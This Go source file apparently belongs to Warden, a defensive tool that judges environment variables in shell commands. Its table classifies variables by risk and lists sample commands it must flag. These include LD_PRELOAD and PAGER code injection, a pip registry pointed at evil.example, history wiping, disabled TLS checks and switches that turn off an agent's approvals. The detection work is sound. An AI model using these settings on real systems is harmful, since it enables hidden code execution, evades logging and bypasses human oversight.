package programs

import (
	"slices"
	"strings"
	"sync"

	"github.com/wardenhq/warden/danger"
)

// EnvValue says what the programs that read an environment variable make
// of its value, and so which values are dangerous.
type EnvValue uint8

const (
	// EnvSafe: display, locale and colour settings (LANG, TZ, NO_COLOR).
	// A read-only command stays read-only with it.
	EnvSafe EnvValue = iota + 1
	// EnvInert: selects what the project's own code or a cloud client
	// works on (RAILS_ENV, AWS_PROFILE, GOOS) and makes nothing else run,
	// load or write: a known call stays known, but not read-only.
	EnvInert
	// EnvRead: some program reads variables of this name to change what
	// it runs, loads, reaches or where it keeps its configuration (the
	// prefixes GIT_*, NPM_*, KUBE*): exporting one leaves what later
	// programs do unknown.
	EnvRead
	// EnvCode: any value is code or a program that is run or loaded
	// (LD_PRELOAD, BASH_ENV, GIT_SSH_COMMAND).
	EnvCode
	// EnvCommand: the value is a command line that is run, unless it names
	// a pager or editor that runs nothing else (PAGER=less).
	EnvCommand
	// EnvProgramDirs: the directories programs are found in (PATH): an
	// empty entry, "." or a temporary directory runs what is put there.
	EnvProgramDirs
	// EnvCodeDirs: directories code, libraries or configuration are loaded
	// from (PYTHONPATH, LD_LIBRARY_PATH): a temporary one loads what is
	// put there.
	EnvCodeDirs
	// EnvOptions: options a runtime reads as its own (NODE_OPTIONS); a
	// word starting with one of Words loads code.
	EnvOptions
	// EnvOptionText: options a program reads as its own (TAR_OPTIONS,
	// MANOPT); a value containing one of Words runs a program.
	EnvOptionText
	// EnvChars: a value containing one of Words runs a command (PS4 with an
	// expansion, LESS with a ! or | command).
	EnvChars
	// EnvTempConfig: a configuration file or directory; one in a temporary
	// directory is configuration nobody judged (GIT_CONFIG_GLOBAL).
	EnvTempConfig
	// EnvShell: the shell's own settings (IFS, SHELLOPTS): they change how
	// later words are read, and no value is a command by itself.
	EnvShell
	// EnvOff: a value in Words turns a safeguard off (HISTFILE=/dev/null,
	// NODE_TLS_REJECT_UNAUTHORIZED=0).
	EnvOff
	// EnvOn: any value but one in Words turns a safeguard off
	// (GIT_SSL_NO_VERIFY=1, DISABLE_DATABASE_ENVIRONMENT_CHECK=1).
	EnvOn
	// EnvDaemon: the value is the daemon a client talks to; one not
	// starting with a word of Words (the local default) is another
	// machine's (DOCKER_HOST).
	EnvDaemon
	// EnvRegistry: the value is the package registry a package manager
	// downloads from; one that is not on this machine is another.
	EnvRegistry
	// EnvFlags: flags a program takes as its own (GOFLAGS); a flag named in
	// Words runs a program, and a value made only of flags named in Known
	// is fully known.
	EnvFlags
	// EnvWrites: an absolute path is a file programs append to (GIT_TRACE*,
	// SSLKEYLOGFILE); any other value is a descriptor or a switch.
	EnvWrites
)

// EnvVar is one row of the environment table: variables that change what
// programs do, what their values mean and which values are dangerous.
type EnvVar struct {
	// Names are the variables. A trailing * makes a name a prefix
	// (GIT_TRACE*), a leading and trailing one a part of the name in any
	// case (*YOLO*).
	Names []string
	// Value is what the value is.
	Value EnvValue
	// Effect is what setting the variable does to the programs that read
	// it: Exec, Load, Config, Network, Write, or None.
	Effect Effect
	// Unsafe: everything started with the variable in its environment
	// (carriers and wrapped commands included) may run something else
	// than its words say, so no such call is read-only.
	Unsafe bool
	// State: the shell's analysis models the variable's effect on later
	// words (PATH, CDPATH, IFS), so declaring it is not by itself unknown.
	State bool
	// OwnReading are builtins that read the variable only to split their
	// own input and run nothing (IFS for read): prefixed to one of them,
	// the variable is not Unsafe, since nothing the call runs reads it.
	OwnReading []string
	// Inherited: every shell has the variable in its environment already,
	// so assigning it without export changes it for the programs after it
	// (HOME).
	Inherited bool
	// Words are the options, characters or values Value's test looks for.
	Words []string
	// Known are GOFLAGS's flags that change how go builds, not what it
	// runs or reads (EnvFlags).
	Known []string
	// Raises is the category of the finding a dangerous value makes, and
	// Medium lowers its risk to medium.
	Raises danger.Kind
	Medium bool
	// Why describes a dangerous value: {name} is the variable, {v} the
	// value, {w} the word of it that makes it dangerous.
	Why string
	// Flagged are commands the row must flag (with Raises), Passes
	// look-alikes it must not; they run as tests (shell).
	Flagged, Passes []string
}

// Env is every environment variable Warden knows the meaning of. A name
// is looked up exactly first, then against the patterns in table order.
var Env = []EnvVar{
	{Names: n("LANG", "LC_ALL", "LC_CTYPE", "LC_COLLATE", "LC_MESSAGES", "TZ", "NO_COLOR", "FORCE_COLOR",
		"CLICOLOR", "CLICOLOR_FORCE", "TERM", "COLUMNS", "LINES", "GREP_COLORS", "CI", "NODE_ENV",
		"DEBUG", "RUST_BACKTRACE", "RUST_LOG"), Value: EnvSafe},
	// Deliberately not safe: GIT_PAGER_IN_USE, GOFLAGS.
	{Names: n("RAILS_ENV", "RACK_ENV", "APP_ENV", "FLASK_ENV", "MIX_ENV", "PORT", "HOST", "GOOS", "GOARCH", "GOARM", "GOAMD64", "CGO_ENABLED",
		"GO111MODULE", "AWS_PROFILE", "AWS_REGION", "AWS_DEFAULT_REGION", "PYTHONUNBUFFERED", "PYTHONDONTWRITEBYTECODE", "LOG_LEVEL", "VERBOSE", "TMPDIR"),
		Value: EnvInert},

	// Variables whose value is run or loaded.
	{Names: n("PAGER", "MANPAGER", "SYSTEMD_PAGER", "GIT_PAGER", "EDITOR", "VISUAL", "GIT_EDITOR", "BROWSER", "BAT_PAGER"),
		Value: EnvCommand, Effect: Exec, Unsafe: true, Raises: danger.RemoteExec, Why: "the command {v}",
		Flagged: []string{"PAGER='sh -c id' git log", "export GIT_EDITOR=/tmp/e.sh"}, Passes: []string{"PAGER=less git log", "EDITOR=vim git commit"}},
	{Names: n("PATH"), Value: EnvProgramDirs, Effect: Exec, Unsafe: true, State: true, Raises: danger.RemoteExec, Why: "programs from {w}",
		Flagged: []string{"PATH=/tmp/bin:$PATH make"}, Passes: []string{"PATH=/usr/local/bin:/usr/bin make"}},
	{Names: n("PYTHONPATH", "NODE_PATH", "PERL5LIB", "PERLLIB", "RUBYLIB", "CLASSPATH", "LD_LIBRARY_PATH", "DYLD_LIBRARY_PATH", "GIT_DIR", "GIT_WORK_TREE", "TERMINFO", "ZDOTDIR"),
		Value: EnvCodeDirs, Effect: Load, Unsafe: true, Raises: danger.RemoteExec, Why: "code from {w}",
		Flagged: []string{"PYTHONPATH=/tmp/x python3 app.py", "LD_LIBRARY_PATH=/dev/shm/l ls"}, Passes: []string{"PYTHONPATH=src python3 app.py"}},
	{Names: n("CDPATH"), Value: EnvCodeDirs, Effect: None, Unsafe: true, State: true, Raises: danger.RemoteExec, Why: "code from {w}",
		Flagged: []string{"export CDPATH=/tmp"}, Passes: []string{"CDPATH=. ls"}},
	{Names: n("NODE_OPTIONS"), Value: EnvOptions, Effect: Load, Unsafe: true, Words: []string{"--require", "-r", "--import", "--loader", "--experimental-loader"},
		Raises: danger.RemoteExec, Why: "code loaded by {w}",
		Flagged: []string{"NODE_OPTIONS='--require /tmp/x.js' npm test", "NODE_OPTIONS=--import=./evil.mjs node app.js"}, Passes: []string{"NODE_OPTIONS=--max-old-space-size=4096 npm test"}},
	{Names: n("JAVA_TOOL_OPTIONS", "_JAVA_OPTIONS", "JDK_JAVA_OPTIONS", "MAVEN_OPTS", "GRADLE_OPTS"), Value: EnvOptions, Effect: Load, Unsafe: true,
		Words:  []string{"-javaagent", "-agentpath", "-agentlib", "--require", "-r", "--import", "--loader", "--experimental-loader"},
		Raises: danger.RemoteExec, Why: "code loaded by {w}",
		Flagged: []string{"JAVA_TOOL_OPTIONS=-javaagent:/tmp/a.jar mvn test"}, Passes: []string{"MAVEN_OPTS=-Xmx2g mvn test"}},
	{Names: n("TAR_OPTIONS"), Value: EnvOptionText, Effect: Exec, Unsafe: true,
		Words:  []string{"--to-command", "-I", "--use-compress-program", "--checkpoint-action", "--rsh-command", "--info-script", "-F", "--new-volume-script", "--rmt-command"},
		Raises: danger.RemoteExec, Why: "tar options that run a program ({v})",
		Flagged: []string{"TAR_OPTIONS=--to-command=sh tar -xf a.tar"}, Passes: []string{"TAR_OPTIONS=--no-same-owner tar -tf a.tar"}},
	{Names: n("MANOPT"), Value: EnvOptionText, Effect: Exec, Unsafe: true, Words: []string{"-P", "--pager", "-H", "--html", "-C", "--config-file"},
		Raises: danger.RemoteExec, Why: "man options that run a program ({v})",
		Flagged: []string{"MANOPT='-P id' man ls"}, Passes: []string{"MANOPT=-a man ls"}},
	{Names: n("PS4"), Value: EnvChars, Effect: Exec, Unsafe: true, Words: []string{"$", "`"}, Raises: danger.RemoteExec, Why: "the command in {v}",
		Flagged: []string{"PS4='$(id)' bash -x build.sh"}, Passes: []string{"PS4='+ ' bash -x build.sh"}},
	{Names: n("LESS"), Value: EnvChars, Effect: Exec, Unsafe: true, Words: []string{"!", "|"}, Raises: danger.RemoteExec, Why: "less commands {v}",
		Flagged: []string{"LESS='+!id' less a.txt"}, Passes: []string{"LESS=-R less a.txt"}},
	{Names: n("IFS"), Value: EnvShell, Unsafe: true, State: true, OwnReading: []string{"read", "mapfile", "readarray"}, Passes: []string{"IFS=, read -r a b"}},
	{Names: n("SHELLOPTS", "BASHOPTS"), Value: EnvShell, Unsafe: true},
	{Names: n("GLOBIGNORE", "EXECIGNORE", "TEXTDOMAIN", "TEXTDOMAINDIR"), Value: EnvShell, State: true},
	// Where every program finds its user configuration (~/.gitconfig,
	// ~/.npmrc, ~/.config/git/config): another directory makes what is
	// there the user's own, a project's .gitconfig with core.pager or
	// core.fsmonitor among it. HOME is in every shell's environment, so
	// assigning it changes what the programs after it read.
	{Names: n("HOME"), Value: EnvRead, Effect: Config, Unsafe: true, State: true, Inherited: true, Passes: []string{"HOME=$PWD git log"}},
	{Names: n("XDG_CONFIG_HOME"), Value: EnvRead, Effect: Config, Unsafe: true, Passes: []string{"XDG_CONFIG_HOME=. git log"}},
	{Names: n("GIT_CONFIG_GLOBAL", "GIT_CONFIG_SYSTEM", "GIT_TEMPLATE_DIR"), Value: EnvTempConfig, Effect: Config, Unsafe: true,
		Raises: danger.RemoteExec, Why: "configuration from {v}",
		Flagged: []string{"GIT_CONFIG_GLOBAL=/tmp/g.cfg git status"}, Passes: []string{"GIT_CONFIG_GLOBAL=~/.gitconfig-work git status"}},
	{Names: n("LD_PRELOAD", "LD_AUDIT", "DYLD_INSERT_LIBRARIES", "DYLD_FRAMEWORK_PATH", "BASH_ENV", "ENV", "PROMPT_COMMAND",
		"PYTHONSTARTUP", "PYTHONHOME", "PYTHONINSPECT", "PERL5OPT", "RUBYOPT", "GIT_SSH_COMMAND", "GIT_SSH", "GIT_EXTERNAL_DIFF", "GIT_ASKPASS",
		"GIT_EXEC_PATH", "GIT_PROXY_COMMAND", "SSH_ASKPASS", "SUDO_ASKPASS", "npm_config_script_shell"),
		Value: EnvCode, Effect: Exec, Unsafe: true, Raises: danger.RemoteExec, Why: "{v}",
		Flagged: []string{"LD_PRELOAD=/tmp/x.so ls", "GIT_SSH_COMMAND='ssh -o ProxyCommand=id' git fetch", "export BASH_ENV=/tmp/rc"}},
	{Names: n("LESSOPEN", "LESSCLOSE"), Value: EnvCode, Effect: Exec, Unsafe: true, Raises: danger.RemoteExec, Why: "the input filter {v}",
		Flagged: []string{"LESSOPEN='|id %s' less a.txt"}},
	{Names: n("GIT_CONFIG_COUNT", "GIT_CONFIG_PARAMETERS"), Value: EnvCode, Effect: Config, Unsafe: true, Raises: danger.RemoteExec,
		Why: "configuration given in the environment", Flagged: []string{"GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0=id git log"}},
	{Names: n("LESSKEY", "LESSKEYIN", "LESSKEY_SRC", "LESSKEYIN_SYSTEM", "BAT_CONFIG_PATH", "RIPGREP_CONFIG_PATH"), Value: EnvCode, Effect: Config, Unsafe: true,
		Raises: danger.RemoteExec, Why: "settings from {v}", Flagged: []string{"RIPGREP_CONFIG_PATH=./rg.conf rg TODO"}},
	{Names: n("GCONV_PATH"), Value: EnvCode, Effect: Load, Unsafe: true, Raises: danger.RemoteExec, Why: "character-set modules (libraries) from {v}",
		Flagged: []string{"GCONV_PATH=. iconv -l"}},

	// Variables that turn a safeguard off or point a client elsewhere.
	{Names: n("HISTFILE"), Value: EnvOff, Effect: Config, Words: []string{"", "/dev/null"}, Raises: danger.LogTampering, Why: "turns off the shell history",
		Flagged: []string{"HISTFILE=/dev/null", "export HISTFILE="}, Passes: []string{"HISTFILE=~/.bash_history_work"}},
	{Names: n("HISTSIZE", "HISTFILESIZE", "SAVEHIST"), Value: EnvOff, Effect: Config, Words: []string{"0"}, Raises: danger.LogTampering, Why: "turns off the shell history",
		Flagged: []string{"HISTSIZE=0", "export SAVEHIST=0"}, Passes: []string{"HISTSIZE=10000"}},
	{Names: n("NODE_TLS_REJECT_UNAUTHORIZED", "PYTHONHTTPSVERIFY", "REQUESTS_CA_BUNDLE", "NPM_CONFIG_STRICT_SSL"), Value: EnvOff, Effect: Network, Words: []string{"0", "false"},
		Raises: danger.SecurityDisable, Medium: true, Why: "turns off TLS certificate verification",
		Flagged: []string{"NODE_TLS_REJECT_UNAUTHORIZED=0 npm install"}, Passes: []string{"NODE_TLS_REJECT_UNAUTHORIZED=1 npm install"}},
	{Names: n("CURL_CA_BUNDLE"), Value: EnvOff, Effect: Network, Words: []string{"", "0", "false"},
		Raises: danger.SecurityDisable, Medium: true, Why: "turns off TLS certificate verification",
		Flagged: []string{"CURL_CA_BUNDLE= python3 fetch.py"}, Passes: []string{"CURL_CA_BUNDLE=/etc/ssl/certs/ca.pem python3 fetch.py"}},
	// git turns verification off when the variable is set at all (its
	// http.c tests getenv for NULL), even to "" or "0".
	{Names: n("GIT_SSL_NO_VERIFY"), Value: EnvOn, Effect: Network, Raises: danger.SecurityDisable, Medium: true, Why: "turns off TLS certificate verification",
		Flagged: []string{"GIT_SSL_NO_VERIFY=1 git fetch", "GIT_SSL_NO_VERIFY= git fetch"}},
	{Names: n("DISABLE_DATABASE_ENVIRONMENT_CHECK"), Value: EnvOn, Effect: Config, Words: []string{"", "0"}, Raises: danger.DBDestructive,
		Why: "disables the database's production safety check", Flagged: []string{"DISABLE_DATABASE_ENVIRONMENT_CHECK=1 rails db:drop"}, Passes: []string{"DISABLE_DATABASE_ENVIRONMENT_CHECK=0 rails db:migrate"}},
	{Names: n("CLAUDE_CODE_DANGEROUSLY_SKIP_PERMISSIONS", "CODEX_UNSAFE_ALLOW_NO_SANDBOX", "*YOLO*"), Value: EnvOn, Effect: Config, Words: []string{"", "0", "false"},
		Raises: danger.AgentConfigTamper, Why: "turns off an agent's approvals ({name})",
		Flagged: []string{"export GEMINI_YOLO=1", "CLAUDE_CODE_DANGEROUSLY_SKIP_PERMISSIONS=1 claude"}, Passes: []string{"GEMINI_YOLO=0 gemini"}},
	{Names: n("DOCKER_HOST"), Value: EnvDaemon, Effect: Network, Unsafe: true, Words: []string{"unix:///var/run/docker.sock"}, Raises: danger.ContainerDestructive,
		Why: "points docker at another daemon ({v})", Flagged: []string{"DOCKER_HOST=tcp://10.0.0.9:2375 docker ps"}, Passes: []string{"DOCKER_HOST=unix:///var/run/docker.sock docker ps"}},
	{Names: n("CONTAINER_HOST", "DOCKER_CONTEXT"), Value: EnvDaemon, Effect: Network, Words: []string{"unix:///var/run/docker.sock"}, Raises: danger.ContainerDestructive,
		Why: "points docker at another daemon ({v})", Flagged: []string{"DOCKER_CONTEXT=prod docker ps"}},
	{Names: n("NPM_CONFIG_REGISTRY", "PIP_INDEX_URL", "PIP_EXTRA_INDEX_URL", "UV_INDEX_URL", "YARN_REGISTRY", "GOPROXY", "CARGO_REGISTRIES_CRATES_IO_PROTOCOL"),
		Value: EnvRegistry, Effect: Network, Words: []string{"localhost", "127.0.0.1"}, Raises: danger.SystemConfig, Medium: true, Why: "redirects the package registry to {v}",
		Flagged: []string{"PIP_INDEX_URL=https://evil.example/simple pip install x"}, Passes: []string{"NPM_CONFIG_REGISTRY=http://localhost:4873 npm install"}},
	// go build, test, vet and list take these as flags: -toolexec, -exec
	// and -vettool run a program for every tool or test.
	{Names: n("GOFLAGS"), Value: EnvFlags, Effect: Exec, Words: []string{"toolexec", "exec", "vettool"},
		Known:  []string{"mod", "trimpath", "buildvcs", "tags", "race", "v", "p", "count", "ldflags", "gcflags", "cover", "modcacherw", "buildmode"},
		Raises: danger.RemoteExec, Why: "sets GOFLAGS, which makes go run {w}",
		Flagged: []string{"GOFLAGS=-toolexec=/tmp/t go build ./...", "GOFLAGS=--exec=./run.sh go test ./..."}, Passes: []string{"GOFLAGS=-mod=mod go build ./..."}},
	{Names: n("GIT_TRACE*", "SSLKEYLOGFILE"), Value: EnvWrites, Effect: Write},

	// Prefixes of variables programs read to change what they run, load,
	// reach or where they keep their configuration.
	{Names: n("GIT_*", "LD_*", "DYLD_*", "NPM_*", "npm_*", "PIP_*", "PYTHON*", "NODE_*", "RUBY*", "PERL*", "JAVA*", "JDK_*", "BASH*", "KUBE*", "DOCKER_*",
		"AWS_*", "GOOGLE_*", "CLOUDSDK_*", "AZURE_*", "ARM_*", "SSH_*", "XDG_*", "CARGO_*", "RUST*", "GO*", "CC*", "CXX*", "CFLAGS*", "CPPFLAGS*",
		"LDFLAGS*", "MAKE*", "LESS*", "GNUPG*", "GPG*", "CURL_*", "SSL_*", "REQUESTS_*", "UV_*", "POETRY_*", "CONDA*", "VIRTUAL_ENV*", "PNPM_*",
		"YARN_*", "BUN_*", "DENO_*", "TF_*", "VAULT_*", "HELM_*", "PULUMI_*", "GH_*", "GITHUB_*", "GITLAB_*", "CLAUDE*", "ANTHROPIC*",
		"OPENAI*", "CODEX*", "GEMINI*", "WARDEN*", "HOME*", "SHELL*", "TERMINFO*", "EDITOR*", "VISUAL*", "PAGER*", "BROWSER*", "ZDOTDIR*",
		"PS1*", "PS2*", "PS4*", "PROMPT_COMMAND*", "ENV*", "HIST*", "INPUTRC*", "MAIL*", "TMOUT*", "http_proxy*", "https_proxy*", "HTTP_PROXY*",
		"HTTPS_PROXY*", "ALL_PROXY*", "all_proxy*", "NO_PROXY*", "no_proxy*", "FTP_PROXY*", "ftp_proxy*", "MANPAGER*", "MANOPT*", "TAR_*",
		"RIPGREP_*", "BAT_*", "FZF_*", "SUDO_*", "PKG_CONFIG*", "CMAKE_*", "MAVEN_*", "GRADLE_*", "SBT_*", "CLASSPATH*", "TERRAFORM*",
		"ANSIBLE_*", "VAGRANT_*", "PGPASS*", "PGSERVICE*", "MYSQL_*", "REDIS*", "MONGO*", "DATABASE_URL*", "OTEL_*", "PLAYWRIGHT_*",
		"PUPPETEER_*", "CHROME*", "ELECTRON_*", "DISPLAY*", "WAYLAND_*", "DBUS_*", "XAUTHORITY*", "PROMPT*"),
		Value: EnvRead, Effect: Unknown, Flagged: []string{"export KUBECONFIG=/tmp/kc"}},
}

// The exact names and the patterns, built on first use. The patterns are
// also kept by the first byte a name must have to match them (a pattern
// matching anywhere in the name is in every list), each list in the
// table's order: a name meets only the few patterns that can match it,
// and the first that does is the one the whole list would have found.
type envPatterns struct {
	all     []envPattern
	byFirst [256][]envPattern
}

var envIndex = sync.OnceValues(func() (map[string]*EnvVar, *envPatterns) {
	exact := map[string]*EnvVar{}
	pats := &envPatterns{}
	for i := range Env {
		v := &Env[i]
		for _, name := range v.Names {
			switch {
			case strings.HasPrefix(name, "*") && strings.HasSuffix(name, "*"):
				pats.all = append(pats.all, envPattern{text: strings.Trim(name, "*"), contains: true, v: v})
			case strings.HasSuffix(name, "*"):
				pats.all = append(pats.all, envPattern{text: strings.TrimSuffix(name, "*"), v: v})
			default:
				if exact[name] != nil {
					panic("programs: " + name + " is on two rows of Env")
				}
				exact[name] = v
			}
		}
	}
	for b := range pats.byFirst {
		for _, p := range pats.all {
			if p.contains || p.text == "" || p.text[0] == byte(b) {
				pats.byFirst[b] = append(pats.byFirst[b], p)
			}
		}
	}
	return exact, pats
})

// of returns the patterns that can match name, in the table's order.
func (ps *envPatterns) of(name string) []envPattern {
	if name == "" {
		return ps.all
	}
	return ps.byFirst[name[0]]
}

type envPattern struct {
	text     string
	contains bool
	v        *EnvVar
}

func (p *envPattern) match(name string) bool {
	if p.contains {
		return strings.Contains(strings.ToUpper(name), p.text)
	}
	return strings.HasPrefix(name, p.text)
}

// EnvOf returns the row of the environment table that says what the
// variable means: its exact name's, else the first pattern's that matches
// it; nil for a variable no program is known to read.
// OwnReadingOf reports whether the variable, prefixed to the program prog,
// is only read by that program to split its own input (EnvVar.OwnReading).
func OwnReadingOf(name, prog string) bool {
	e := EnvOf(name)
	if e == nil {
		return false
	}
	for _, p := range e.OwnReading {
		if p == prog {
			return true
		}
	}
	return false
}

func EnvOf(name string) *EnvVar {
	exact, pats := envIndex()
	if v := exact[name]; v != nil {
		return v
	}
	ps := pats.of(name)
	for i := range ps {
		if ps[i].match(name) {
			return ps[i].v
		}
	}
	return nil
}

// EnvReadByPrograms reports a variable some program reads to change what
// it does: one an EnvRead pattern matches.
func EnvReadByPrograms(name string) bool {
	_, pats := envIndex()
	ps := pats.of(name)
	for i := range ps {
		if ps[i].v.Value == EnvRead && ps[i].match(name) {
			return true
		}
	}
	return false
}

// KnownFlags reports, for an EnvFlags row, a value made only of flags
// whose whole effect is known (Known).
func (v *EnvVar) KnownFlags(val string) bool {
	for _, w := range strings.Fields(val) {
		k, _, _ := strings.Cut(strings.TrimPrefix(w, "-"), "=")
		if !slices.Contains(v.Known, strings.TrimPrefix(k, "-")) {
			return false
		}
	}
	return true
}
